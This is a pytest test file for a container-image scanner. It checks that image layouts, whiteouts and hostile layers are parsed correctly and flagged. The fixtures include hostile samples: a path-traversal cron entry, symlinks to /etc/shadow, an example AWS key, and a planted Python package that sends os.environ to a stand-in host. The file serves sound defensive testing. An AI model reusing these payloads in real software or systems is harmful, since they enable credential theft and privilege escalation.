"""Container images as sources: layouts, compressions, whiteouts, and hostile layers."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path

import pytest

from outwork.analyzers.images.model import load
from outwork.core.artifact import Artifact, Kind
from outwork.core.budgets import Budgets
from outwork.core.errors import TargetError
from outwork.core.findings import Finding, Skip
from outwork.engine.pipeline import ScanOptions, scan
from outwork.sources import open_target
from tests.imagebuild import Image, Node, docker_archive, folder, oci_layout, oci_tar, symlink

LAYERS = [
    {
        "etc/": folder(),
        "etc/os-release": b'ID=debian\nVERSION_ID="12"\n',
        "app/creds.txt": b"token\n",
        "opt/cache/a": b"a\n",
        "usr/bin/tool": Node(b"#!/bin/sh\necho\n", mode=0o4755),
    },
    {
        "app/.wh.creds.txt": b"",
        "opt/cache/.wh..wh..opq": b"",
        "opt/cache/b": b"b\n",
        "usr/bin/tool": Node(b"#!/bin/sh\necho 2\n", mode=0o755),
        "etc/alt": symlink("/usr/bin/tool"),
    },
]


def _items(target: str, budgets: Budgets | None = None) -> list[Artifact | Finding | Skip]:
    return list(open_target(target, budgets or Budgets()))


def _build(kind: str, tmp_path: Path, image: Image) -> tuple[str, dict[str, str]]:
    if kind == "legacy":
        path = tmp_path / "legacy.tar"
        return str(path), docker_archive(path, image)
    if kind == "oci-in-docker":
        path = tmp_path / "docker.tar"
        return str(path), docker_archive(path, image, oci=True)
    if kind == "oci-folder":
        path = tmp_path / "layout"
        path.mkdir()
        return str(path), oci_layout(path, image)
    path = tmp_path / "oci.tar"
    return str(path), oci_tar(path, image)


@pytest.mark.parametrize("layout", ["legacy", "oci-in-docker", "oci-folder", "oci-tar"])
@pytest.mark.parametrize("compression", ["gzip", "zstd", "none"])
def test_every_layout_and_compression_yields_files_by_layer(
    layout: str, compression: str, tmp_path: Path
) -> None:
    target, names = _build(layout, tmp_path, Image(LAYERS, compression=compression))
    items = _items(target)
    assert not [i for i in items if isinstance(i, Finding)]
    files = {i.path: i for i in items if isinstance(i, Artifact)}
    creds = f"{target}!/{names['0']}!/app/creds.txt"
    assert "image-deleted" in files[creds].tags
    assert files[creds].read() == b"token\n"
    assert "image-overwritten" in files[f"{target}!/{names['0']}!/usr/bin/tool"].tags
    assert "image-deleted" in files[f"{target}!/{names['0']}!/opt/cache/a"].tags
    top = files[f"{target}!/{names['1']}!/usr/bin/tool"]
    assert not {"image-deleted", "image-overwritten"} & top.tags
    assert files[f"{target}!/{names['config']}"].kind is Kind.JSON
    summaries = [i for i in items if isinstance(i, Artifact) and i.kind is Kind.IMAGE]
    assert len(summaries) == 1 and summaries[0].path == target
    image = load(summaries[0].read())
    final = image.final()
    assert "app/creds.txt" not in final and "opt/cache/a" not in final
    assert final["opt/cache/b"].layer == 1 and final["usr/bin/tool"].mode == 0o755
    assert final["etc/alt"].type == "symlink" and final["etc/alt"].link == "/usr/bin/tool"
    assert image.meta_final("etc/os-release") == b'ID=debian\nVERSION_ID="12"\n'
    assert not image.anomalies


def test_prefixes_name_an_image_and_refuse_what_is_not_one(tmp_path: Path) -> None:
    target, _ = _build("oci-folder", tmp_path, Image(LAYERS))
    assert any(isinstance(i, Artifact) and i.kind is Kind.IMAGE for i in _items(f"oci:{target}"))
    plain = tmp_path / "plain.tar"
    with tarfile.open(plain, "w") as tf:
        info = tarfile.TarInfo("a.txt")
        tf.addfile(info, io.BytesIO(b""))
    with pytest.raises(TargetError, match="not a readable image"):
        _items(f"docker-archive:{plain}")
    # without the prefix, a plain tar is still the tar it is
    assert not any(isinstance(i, Artifact) and i.kind is Kind.IMAGE for i in _items(str(plain)))


def test_an_image_inside_a_scanned_folder_is_read_as_an_image(tmp_path: Path) -> None:
    (tmp_path / "images").mkdir()
    docker_archive(tmp_path / "images" / "app.tar", Image(LAYERS), oci=True)
    (tmp_path / "layout").mkdir()
    oci_layout(tmp_path / "layout", Image(LAYERS))
    items = _items(str(tmp_path))
    kinds = [i.path for i in items if isinstance(i, Artifact) and i.kind is Kind.IMAGE]
    assert sorted(kinds) == [f"{tmp_path}/images/app.tar", f"{tmp_path}/layout"]


def _codes(items: list[Artifact | Finding | Skip]) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for item in items:
        if isinstance(item, Finding):
            out.setdefault(item.code, []).append(item.location.path)
    return out


def test_hostile_member_names_and_links_are_findings_and_reading_goes_on(tmp_path: Path) -> None:
    hostile = {
        "../../etc/cron.d/x": b"* * * * * root sh\n",
        "/abs/file": b"x\n",
        "app/up": symlink("../../../../etc/shadow"),
        "app/abs": symlink("/etc/shadow"),
        "app/ok.py": b"print(1)\n",
    }
    target, names = _build("oci-in-docker", tmp_path, Image([hostile]))
    items = _items(target)
    codes = _codes(items)
    layer = f"{target}!/{names['0']}"
    assert f"{layer}!/../../etc/cron.d/x" in codes["CORE002"]
    assert f"{layer}!//abs/file" in codes["CORE002"] or f"{layer}!/abs/file" in codes["CORE002"]
    assert codes["CORE003"] == [f"{layer}!/app/up"]  # an absolute link stays in the image's root
    summary = next(i for i in items if isinstance(i, Artifact) and i.kind is Kind.IMAGE)
    final = load(summary.read()).final()
    assert "etc/cron.d/x" in final and "abs/file" in final  # where a runtime puts them
    assert f"{layer}!/app/ok.py" in {i.path for i in items if isinstance(i, Artifact)}


def test_a_layer_bomb_is_stopped_and_the_other_layers_are_read(tmp_path: Path) -> None:
    image = Image([{"app/ok.py": b"print(1)\n"}, {"zeros.bin": bytes(48 * 1024 * 1024)}])
    target, names = _build("oci-in-docker", tmp_path, image)
    items = _items(target)
    codes = _codes(items)
    assert codes["CORE001"] == [f"{target}!/{names['1']}"]
    paths = {i.path for i in items if isinstance(i, Artifact)}
    assert f"{target}!/{names['0']}!/app/ok.py" in paths
    assert any(isinstance(i, Skip) for i in items)
    assert any(isinstance(i, Artifact) and i.kind is Kind.IMAGE for i in items)


def test_a_truncated_layer_and_random_bytes_are_findings(tmp_path: Path) -> None:
    target, names = _build("oci-folder", tmp_path, Image(LAYERS))
    blob = Path(target) / names["0"]
    blob.write_bytes(blob.read_bytes()[:100])
    (Path(target) / names["1"]).write_bytes(b"\x00garbage" * 100)
    items = _items(target)
    codes = _codes(items)
    assert f"{target}!/{names['0']}" in codes["CORE005"]
    image = load(next(i for i in items if isinstance(i, Artifact) and i.kind is Kind.IMAGE).read())
    kinds = {a["kind"] for a in image.anomalies}
    assert "digest-mismatch" in kinds


def test_duplicate_members_of_the_image_archive_are_reported(tmp_path: Path) -> None:
    target, names = _build("oci-in-docker", tmp_path, Image(LAYERS))
    with tarfile.open(target, "a") as tf:
        data = gzip.compress(b"not the layer")
        info = tarfile.TarInfo(names["0"])
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    result = scan([target], ScanOptions(jobs=1, cache_dir=None))
    assert any(f.code == "IMG004" and "twice" in f.message for f in result.findings)
    assert any(f.code == "IMG003" for f in result.findings)  # the later copy does not match


def test_a_scan_of_an_image_locates_a_deleted_secret_by_layer_and_line(tmp_path: Path) -> None:
    key = "AKIA" + "IOSFODNN7EXAMPLQ"
    image = Image(
        [{"app/.env": f"# config\naws_access_key_id = {key}\n".encode()}, {"app/.wh..env": b""}],
        config={"User": "app"},
    )
    target, names = _build("oci-in-docker", tmp_path, image)
    result = scan([target], ScanOptions(jobs=1, cache_dir=None))
    where = f"{target}!/{names['0']}!/app/.env"
    secret = [f for f in result.findings if f.code.startswith("SEC")]
    assert secret and secret[0].location.path == where and secret[0].location.line == 2
    deleted = next(f for f in result.findings if f.code == "IMG005")
    assert deleted.location.path == f"{target}!/{names['1']}"
    assert [r.path for r in deleted.related] == [where]
    assert json.dumps(result.stats.artifacts)


def test_device_nodes_are_expected_in_dev_only(tmp_path: Path) -> None:
    device = Node(type=tarfile.CHRTYPE, mode=0o666)
    image = Image([{"dev/null": device, "usr/lib/tty0": device}])
    target, names = _build("oci-in-docker", tmp_path, image)
    assert _codes(_items(target))["CORE004"] == [f"{target}!/{names['0']}!/usr/lib/tty0"]


def test_a_docker_save_tarball_is_no_package_and_its_layer_files_are(tmp_path: Path) -> None:
    site = "usr/local/lib/python3.11/site-packages"
    payload = (
        b"import os\nimport urllib.request\n"
        b"urllib.request.urlopen('http://203.0.113.7/', data=str(os.environ).encode())\n"
    )
    image = Image([{f"{site}/evil/__init__.py": payload}], config={"User": "app"})
    target, names = _build("legacy", tmp_path, image)
    result = scan([target], ScanOptions(jobs=1, cache_dir=None))
    top = next(a for a in result.artifacts if a.path == target)
    assert "packages" not in top.analyzers
    pkg = [f for f in result.findings if f.code.startswith("PKG")]
    assert pkg and pkg[0].location.path == f"{target}!/{names['0']}!/{site}/evil/__init__.py"
